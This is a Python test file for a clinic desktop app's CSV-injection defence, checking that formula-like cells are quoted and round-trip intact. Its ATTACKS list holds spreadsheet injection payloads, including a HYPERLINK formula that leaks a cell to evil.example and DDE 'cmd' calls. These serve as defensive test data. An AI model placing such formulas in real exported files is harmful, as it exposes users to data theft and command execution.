"""CSV cells a spreadsheet opens as text (OWASP, CSV Injection): a leading = + - @ tab or carriage
return is quoted away, plain numbers are not, and reading a file back takes off exactly the quote
that writing added (any text survives a round trip, and nothing grows a quote)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinic_desktop.domain.spreadsheets import as_typed, is_plain_number, spreadsheet_safe

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your results")'
ATTACKS = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+2", "\r=3+4", "-2+3+cmd|' /C calc'!A0", "=1+1"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_formula_is_written_as_text(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell
    assert as_typed("'" + cell) == cell


@pytest.mark.parametrize("number", ["-5", "+3.2", "-0.5", "-.5", "+15551234567", "-1e-3", "12.5%", "-7", "0"])
def test_plain_numbers_stay_as_they_are(number: str) -> None:
    assert is_plain_number(number)
    assert spreadsheet_safe(number) == number
    assert as_typed(number) == number


@pytest.mark.parametrize("cell", ["-", "+", "- 5", "-5x", "+1 555 0100", "-5;", "+-5", "-5%%", "-1e", "@5"])
def test_almost_numbers_are_quoted(cell: str) -> None:
    assert not is_plain_number(cell)
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Ines Ortega", "O'Neill", " =space first", "a=b", "\n=1"])
def test_other_text_is_unchanged(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell
    assert as_typed(cell) == cell


@pytest.mark.parametrize("typed", ["'-5", "'abc", "'''x", "'"])
def test_reading_back_leaves_a_quote_that_writing_did_not_add(typed: str) -> None:
    assert as_typed(typed) == typed


@pytest.mark.parametrize(("typed", "written"), [("'=x", "''=x"), ("'-Z", "''-Z"), ("''=x", "'''=x")])
def test_a_quote_typed_before_a_formula_gets_one_more_so_that_it_reads_back_as_typed(
    typed: str, written: str
) -> None:
    assert spreadsheet_safe(typed) == written
    assert as_typed(written) == typed


@given(st.text())
def test_any_text_survives_a_round_trip_and_is_never_run(text: str) -> None:
    written = spreadsheet_safe(text)
    assert as_typed(written) == text  # whatever was typed, "'=x" included
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r")) or is_plain_number(written)
